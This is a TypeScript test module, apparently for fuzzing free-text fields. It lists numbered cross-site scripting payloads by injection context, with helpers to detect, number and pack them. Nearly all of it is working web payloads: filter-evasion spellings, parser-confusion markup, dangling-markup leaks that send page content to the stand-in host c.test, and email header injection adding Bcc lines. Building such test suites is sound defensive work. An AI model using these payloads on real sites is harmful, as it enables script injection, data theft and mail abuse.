/** A careless page in which a payload runs; `past`: browsers of the past, mail programs, or other readers than a browser. */
export type Sink =
  | 'html'
  | 'reparsed'
  | 'double'
  | 'single'
  | 'bare'
  | 'title'
  | 'textarea'
  | 'comment'
  | 'styles'
  | 'style'
  | 'url'
  | 'jsSingle'
  | 'jsDouble'
  | 'jsTemplate'
  | 'jsLine'
  | 'jsBlock'
  | 'jsValue'
  | 'template'
  | 'markdown'
  | 'json'
  | 'uriDecoded'
  | 'htmlDecoded'
  | 'jsDecoded'
  | 'folded'
  | 'upperCase'
  | 'past';

export interface Payload {
  /** What a run reports: `__xss(number)`, or a request to `c.test/number`. */
  readonly number: number;
  readonly text: string;
  readonly sink: Sink;
}

const handlers = (...names: string[]) => names.map((name) => `<x ${name}=__xss(§)>x`);

/** `§` stands for the payload's number. */
const texts: Readonly<Record<Sink, readonly string[]>> = {
  html: [
    // Scripts in every spelling.
    '<script>__xss(§)</script>',
    '<ScRiPt>__xss(§)</sCrIpT>',
    '<script >__xss(§)</script >',
    '<script/x>__xss(§)</script>',
    '<script\t>__xss(§)</script\t>',
    '<script\n>__xss(§)</script\n>',
    '<script\f>__xss(§)</script\f>',
    '<script src=//c.test/§></script>',
    '<script src="data:,__xss(§)"></script>',
    '<script type=module>__xss(§)</script>',
    '<script async src=https:/c.test/§></script>',
    '<script src=//c.test/§ nonce=x integrity></script>',
    '<<script>__xss(§)//<</script>',
    '<script>\\u005f_xss(§)</script>',
    "<script>self['__x'+'ss'](§)</script>",
    "<script>eval('__x'+'ss(§)')</script>",
    "<script>setTimeout('__xss(§)')</script>",
    "<script>import('data:text/javascript,__xss(§)')</script>",
    '<script>__xss`§`</script>',
    '<script>document.write("<img src=x onerror=__xss(§)>")</script>',
    '<script>location="//c.test/§"</script>',
    '<script>fetch("//c.test/§")</script>',
    '<script>new Image().src="//c.test/§"</script>',
    '<script>navigator.sendBeacon("//c.test/§")</script>',
    '<svg><script>__xss(§)</script></svg>',
    '<svg><script>__xss&#40;§)</script></svg>',
    '<svg><script href=data:,__xss(§) /></svg>',
    '"><script>__xss(§)</script>',
    "'><script>__xss(§)</script>",
    '</noscript><script>__xss(§)</script>',
    ']]><script>__xss(§)</script>',
    '</p></div></main></body></html><script>__xss(§)</script>',
    // Handlers that run by themselves.
    '<img src=x onerror=__xss(§)>',
    '<IMG SRC=x OnErRoR=__xss(§)>',
    '<img/src/onerror=__xss(§)>',
    '<img src=x:x onerror=__xss(§)//',
    '<img src=x onerror=__xss&lpar;§&rpar;>',
    '<img src=x onerror=&#95;_xss(§)>',
    '<img src=x onerror=&#x5f;&#0000095xss(§)>',
    '<img src=x onerror=__xss`§`>',
    '<img src=x onerror="window.onerror=__xss;throw §">',
    '<img src=x onerror=location="javascript:__xss(§)">',
    '<img ""><img src=x onerror=__xss(§)>">',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=__xss(§)>',
    '<image src=x onerror=__xss(§)>',
    '<img\nsrc=x\nonerror=__xss(§)\n>',
    '<img\tsrc=x\tonerror=__xss(§)\t>',
    '<img\fsrc=x\fonerror=__xss(§)\f>',
    '<img srcset=x onerror=__xss(§)>',
    '<picture><source srcset=x><img onerror=__xss(§)></picture>',
    '<svg onload=__xss(§)>',
    '<svg/onload=__xss(§)>',
    '<svg><image href=x onerror=__xss(§) />',
    '<svg><animate onbegin=__xss(§) attributeName=x dur=1s>',
    '<svg><set onbegin=__xss(§) attributeName=x dur=1s>',
    '<svg><foreignObject><iframe onload=__xss(§)></foreignObject></svg>',
    '<body onload=__xss(§)>',
    '<body onpageshow=__xss(§)>',
    '<iframe onload=__xss(§)></iframe>',
    '<input autofocus onfocus=__xss(§)>',
    '<select autofocus onfocus=__xss(§)></select>',
    '<textarea autofocus onfocus=__xss(§)></textarea>',
    '<button autofocus onfocus=__xss(§)>x</button>',
    '<a href=# autofocus onfocus=__xss(§)>x</a>',
    '<x contenteditable autofocus onfocus=__xss(§)>x',
    '<details open ontoggle=__xss(§)>x',
    '<video src=x onerror=__xss(§)></video>',
    '<video><source src=x onerror=__xss(§)></video>',
    '<audio src=x onerror=__xss(§)></audio>',
    '<object data=x: onerror=__xss(§)></object>',
    '<link rel=stylesheet href=data:, onload=__xss(§)>',
    '<style onload=__xss(§)></style>',
    '<script src=x: onerror=__xss(§)></script>',
    '<style>@keyframes x{}</style><x style=animation-name:x onanimationend=__xss(§)>',
    // Handlers that wait for the reader.
    ...handlers('onclick', 'onmouseover', 'onpointerenter', 'onwheel', 'oncopy', 'onkeydown', 'ontouchstart', 'oncontextmenu', 'onbeforeinput', 'ondragstart', 'onbeforetoggle', 'onscrollend'),
    // What a cleaner takes for harmless and a second parse does not.
    '<svg><style><img src=x onerror=__xss(§)></style></svg>',
    '<math><style><img src=x onerror=__xss(§)></style></math>',
    '<svg></p><style><a id="</style><img src=x onerror=__xss(§)>">',
    '<noscript><p title="</noscript><img src=x onerror=__xss(§)>">',
    '<textarea><p title="</textarea><img src=x onerror=__xss(§)>">',
    '<title><p title="</title><img src=x onerror=__xss(§)>">',
    '<xmp><p title="</xmp><svg/onload=__xss(§)>">',
    '<noembed><p title="</noembed><svg/onload=__xss(§)>">',
    '<noframes><p title="</noframes><svg/onload=__xss(§)>">',
    '<iframe><p title="</iframe><svg/onload=__xss(§)>">',
    '<style><p title="</style><svg/onload=__xss(§)>">',
    '<template><p title="</template><svg/onload=__xss(§)>">"></template><svg/onload=__xss(§)>',
    '<select><template></select></template></select><svg/onload=__xss(§)>',
    '<a title=a"><svg/onload=__xss(§)>">',
    '<p><!--><img src=x onerror=__xss(§)>-->',
    '<!---><img src=x onerror=__xss(§)>-->',
    '<!--x--!><img src=x onerror=__xss(§)>-->',
    '<![CDATA[><img src=x onerror=__xss(§)>]]>',
    '<?xml ><img src=x onerror=__xss(§)>?>',
    '<!DOCTYPE x><svg/onload=__xss(§)>',
    '</ ><img src=x onerror=__xss(§)>',
    '<%><%><img src=x onerror=__xss(§)>%>',
    '<scr<script></script>ipt><img src=x onerror=__xss(§)>',
    // Addresses that run, load or lead away.
    '<a href=javascript:__xss(§)>x</a>',
    '<a href="&#x6A;avascript&colon;__xss(§)">x</a>',
    '<a href="java&#x0A;script:__xss(§)">x</a>',
    '<a href="&#1;javascript:__xss(§)">x</a>',
    '<svg><a href=javascript:__xss(§)><text y=20>x</text></a></svg>',
    '<svg><a><animate attributeName=href values=javascript:__xss(§) /><text y=20>x</text></a></svg>',
    '<iframe src=javascript:__xss(§)></iframe>',
    '<iframe src="javascript:parent.__xss(§)"></iframe>',
    '<iframe srcdoc="<script>__xss(§)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=__xss(§)&gt;"></iframe>',
    '<iframe src="data:text/html,<script>__xss(§)</script>"></iframe>',
    '<object data="data:text/html,<script>__xss(§)</script>"></object>',
    '<embed src="data:text/html,<script>__xss(§)</script>">',
    '<form action=javascript:__xss(§)><button>x</button></form>',
    '<form><button formaction=javascript:__xss(§)>x</button></form>',
    '<form action=//c.test/§><input name=q></form>',
    '<input type=image src=//c.test/§>',
    '<base href=//c.test/§/><img src=y>',
    '<meta http-equiv=refresh content="0;url=//c.test/§">',
    '<link rel=stylesheet href=//c.test/§>',
    '<link rel=modulepreload href=//c.test/§>',
    '<img src=//c.test/§>',
    '<img srcset=//c.test/§>',
    '<picture><source srcset=//c.test/§><img></picture>',
    '<video poster=//c.test/§></video>',
    '<video src=//c.test/§></video>',
    '<audio autoplay src=//c.test/§></audio>',
    '<body background=//c.test/§>',
    '<table background=//c.test/§><tr><td>x</table>',
    '<svg><image href=//c.test/§ /></svg>',
    '<iframe src=//c.test/§></iframe>',
    '<embed src=//c.test/§>',
    '<object data=//c.test/§></object>',
    '<a href=//c.test/§>x</a>',
    // Styles.
    '<style>@import"//c.test/§";</style>',
    '<style>*{background:url(//c.test/§)}</style>',
    '<style>@font-face{font-family:x;src:url(//c.test/§)}*{font-family:x}</style>x',
    '<p style="background:url(//c.test/§)">x',
    '<p style="background-image:\\75rl(//c.test/§)">x',
    '<link rel=stylesheet href="data:text/css,@import\'http://c.test/§\'">',
    // Markup left open, so that it swallows what follows and takes it away.
    "<img src='//c.test/§?",
    '<img src="//c.test/§?',
    "<meta http-equiv=refresh content='0;url=//c.test/§?",
    "<link rel=stylesheet href='//c.test/§?",
    "<style>@import'//c.test/§?",
    "<iframe src='//c.test/§?",
    // Around invisible and turning characters.
    '\u202e<script>__xss(§)</script>',
    '\u2066<img src=x onerror=__xss(§)>\u2069',
    '\ufeff<svg onload=__xss(§)>',
    '\u200b<svg\u00a0onload=x><svg onload=__xss(§)>',
    '\u{1f600}<svg onload=__xss(§)>\u{1f600}',
    '\u0000<script>__xss(§)</script>',
    '\u001b[2J<svg onload=__xss(§)>',
    'x<img src=x onerror=__xss(§) \u0000>',
    '\r\n\r\n<script>__xss(§)</script>',
    // Sentences that look like an address.
    'javascript:/*--></title></style></textarea></script></xmp><svg/onload=__xss(§)>',
    '"<img src=x onerror=__xss(§)>" <a@c.example>',
    '<a@c.example><img src=x onerror=__xss(§)>',
  ],
  reparsed: ['<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(§)>'],
  double: ['" onfocus=__xss(§) autofocus x="', '" onmouseover="__xss(§)', '"autofocus/onfocus=__xss(§)//', '" style="animation-name:x" onanimationstart="__xss(§)', '"><svg/onload=__xss(§)>', '\\" onfocus=__xss(§) autofocus x=\\"', '"/><img src=x onerror=__xss(§)><x x="', '" type=image src=//c.test/§ x="'],
  single: ["' onfocus=__xss(§) autofocus x='", "' onmouseover='__xss(§)", "'autofocus/onfocus=__xss(§)//", "'><svg/onload=__xss(§)>", "\\' onfocus=__xss(§) autofocus x=\\'"],
  bare: ['x onfocus=__xss(§) autofocus', 'x\tonfocus=__xss(§)\tautofocus', 'x\nonfocus=__xss(§)\nautofocus', 'x><svg/onload=__xss(§)>'],
  title: ['</title><script>__xss(§)</script>', '</TITLE ><svg/onload=__xss(§)>'],
  textarea: ['</textarea><script>__xss(§)</script>', '</textarea/x><svg/onload=__xss(§)>'],
  comment: ['--><script>__xss(§)</script><!--', '--!><svg/onload=__xss(§)>', '><img src=x onerror=__xss(§)>'],
  styles: ['</style><script>__xss(§)</script>', '}*{background:url(//c.test/§)}', 'x}@import "//c.test/§";*{background:url(//c.test/§)'],
  style: ['x;background:url(//c.test/§)', 'url(//c.test/§);background:url(//c.test/§)', '"onfocus=__xss(§) tabindex=1 autofocus x="'],
  url: [
    'javascript:__xss(§)',
    'JaVaScRiPt:__xss(§)',
    'java\tscript:__xss(§)',
    'java\nscript:__xss(§)',
    '\u0001javascript:__xss(§)',
    'javascript&colon;__xss(§)',
    '&#106;avascript:__xss(§)',
    'jav&#x09;ascript:__xss(§)',
    'javascript://%0a__xss(§)',
    'javascript://c.example/%0d__xss(§)//https://',
    'javascript:__xss%28§%29',
    'javascript:"<script>__xss(§)</script>"',
    'data:text/html,<script>__xss(§)</script>',
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__xss(§)'/>",
    '//c.test/§',
    '\\\\c.test\\§',
    '/\\c.test/§',
    '/\t/c.test/§',
    'https:/c.test/§',
    'https:\\\\c.test\\§',
    'https://c.test/§\\@u.example',
  ],
  jsSingle: ["';__xss(§)//", "'-__xss(§)-'", "\\';__xss(§)//", '</script><svg/onload=__xss(§)>', '</script ><script>__xss(§)</script>'],
  jsDouble: ['";__xss(§)//', '"-__xss(§)-"', '\\";__xss(§)//', '"}];__xss(§);//', '";]]>*/--></script><svg/onload=__xss(§)>'],
  jsTemplate: ['`;__xss(§)//', '`-__xss(§)-`', '${__xss(§)}', '${`${__xss(§)}`}'],
  jsLine: ['\u2028__xss(§)//', '\u2029__xss(§)//', '\n__xss(§)//'],
  jsBlock: ['*/__xss(§)/*', '*/</script><svg/onload=__xss(§)>'],
  jsValue: ['1;__xss(§)', '1],__xss(§),[1', '{get x(){__xss(§)}}.x', '1\n__xss(§)'],
  template: ["{{constructor.constructor('__xss(§)')()}}", '{{__xss(§)}}', '{{{__xss(§)}}}', '#{__xss(§)}', '%{__xss(§)} |||| %{smart_count}', '<%= __xss(§) %>', '<%- __xss(§) %>', '[[${__xss(§)}]]', '{__xss(§)}', '@(__xss(§))', "{{'a'.constructor.constructor('__xss(§)')()}}", '{%__xss(§)%}'],
  markdown: ['[x](javascript:__xss(§))', '![x](//c.test/§)', '[x](javascript&colon;__xss(§))', '[a](x"onfocus=__xss(§)//autofocus//)', '<javascript:__xss(§)>'],
  json: ['{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=__xss(§)>"}}', '{"__proto__":{"innerHTML":"<svg onload=__xss(§)>"}}', '["<img src=x onerror=__xss(§)>"]'],
  uriDecoded: ['%3Cscript%3E__xss(§)%3C/script%3E', '%3cimg%20src=x%20onerror=__xss(§)%3e', '%22%3E%3Csvg/onload=__xss(§)%3E'],
  htmlDecoded: ['&lt;script&gt;__xss(§)&lt;/script&gt;', '&#60;img src=x onerror=__xss(§)&#62;', '&#x3c;svg onload=__xss(§)&#x3e;', '&lt;img src=x onerror=__xss(§)&gt;', '&LT;svg onload=__xss(§)&GT;'],
  jsDecoded: ['\\u003cimg src=x onerror=__xss(§)\\u003e', '\\x3csvg onload=__xss(§)\\x3e', '\\74svg onload=__xss(§)\\76'],
  folded: ['＜script＞__xss(§)＜/script＞', '﹤img src=x onerror=__xss(§)﹥', '≮svg onload=__xss(§)≯', '＜ｓｖｇ onload=__xss(§)＞'],
  upperCase: ['<ſvg/onload=&#95;&#95;&#120;&#115;&#115;(§)>', '<ımg src=x onerror=&#95;&#95;&#120;&#115;&#115;(§)>'],
  past: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__xss(§)&gt;">',
    '+ADw-script+AD4-__xss(§)+ADw-/script+AD4-',
    'À¼script>__xss(§)À¼/script>',
    '<x style="width:expression(__xss(§))">',
    'expression(__xss(§))',
    '<x style="behavior:url(//c.test/§)">',
    '<x style="-moz-binding:url(//c.test/§#x)">',
    '<img src=vbscript:__xss(§)>',
    '<img dynsrc=javascript:__xss(§)>',
    '<img src=`x`onerror=`__xss(§)`>',
    '` onfocus=__xss(§) autofocus x=`',
    '<a href="x`x`"onmouseover=`__xss(§)`>',
    '<scr\u0000ipt>__xss(§)</scr\u0000ipt>',
    '<xml><i><b>&lt;img src=x onerror=__xss(§)&gt;</b></i></xml><span datasrc=#xml dataformatas=html>',
    '=?utf-8?Q?=3Cscript=3E__xss(§)=3C/script=3E?=',
    '=?utf-8?B?PGltZyBzcmM9eCBvbmVycm9yPV9feHNzKDEpPg==?= c.test/§',
    '=?utf-8?Q?x=0D=0ABcc:_a=40c.test/§?=',
    'x\r\nBcc: a@c.test\r\nX: c.test/§',
    'x\nContent-Type: text/html\n\n<script>__xss(§)</script>',
    'x%0d%0aBcc: a@c.test/§',
    'x\u2028Bcc: a@c.test/§',
    'x\u0085Bcc: a@c.test/§',
    'a@c.test, b@c.test, "c.test/§" <c@c.test>',
    '"\\"<script>__xss(§)</script>"@c.test',
    'x" <a@c.test> c.test/§',
    '\ud800<script>__xss(§)</script>',
  ],
};

/** Everything that is tried in every field that takes free text; mixed, so that each part of the list holds every kind. */
export const payloads: readonly Payload[] = Object.entries(texts)
  .flatMap(([sink, list]) => list.map((text) => ({ sink: sink as Sink, text })))
  .map(({ sink, text }, index) => ({ number: index + 1, sink, text: text.replaceAll('§', String(index + 1)) }))
  .toSorted((one, other) => ((one.number * 37) % 1_009) - ((other.number * 37) % 1_009));

/** A text as it reads wherever it stands: spaces are laid out anew, and characters that cannot be seen are left out of some places. */
export const plain = (text: string): string => text.normalize('NFC').replaceAll(/[\s\p{C}]+/gu, '');

/** How many payloads a text holds. */
export function payloadsIn(text: string): number {
  const read = plain(text);
  return payloads.filter((payload) => read.includes(plain(payload.text))).length;
}

/** Local parts of e-mail addresses that are addresses all the same. */
const localParts = ["'-__xss`§`-'", '`-__xss`§`-`', '${__xss`§`}', '{{__xss`§`}}', '{{{__xss`§`}}}', '#{__xss`§`}', '{__xss`§`}', '%{__xss`§`}', "'onfocus=__xss`§`/autofocus/x='", 'x/onfocus=__xss`§`/autofocus', '*/__xss`§`/*', '＜svg/onload=__xss`§`＞', '﹤img/src/onerror=__xss`§`﹥', '≮svg/onload=__xss`§`≯', '&ltsvg/onload=__xss`§`&gt', '&#60svg/onload=__xss`§`&#62', '%3Csvg/onload=__xss`§`%3E', '//c.test/§?', '?c.test/§', '=?utf-8?Q?=3Cc.test/§=3E?=', '--!c.test/§', '\u202e__xss`§`'];

/** Addresses that validation lets through, none of which any field but an address's takes as harmless. */
export const addresses: readonly string[] = localParts.map((text, index) => `${text.replaceAll('§', String(payloads.length + index + 1))}@c.example`);

/** Payloads put together, each part as long as a field allows; what is longer than the field is left out. */
export function packed(texts: readonly string[], limit: number, between: string): string[] {
  const parts: string[] = [];
  for (const text of texts.filter(({ length }) => length <= limit)) {
    const last = parts.at(-1);
    const longer = `${last ?? ''}${between}${text}`;
    if (last !== undefined && longer.length <= limit) parts[parts.length - 1] = longer;
    else parts.push(text);
  }
  return parts;
}
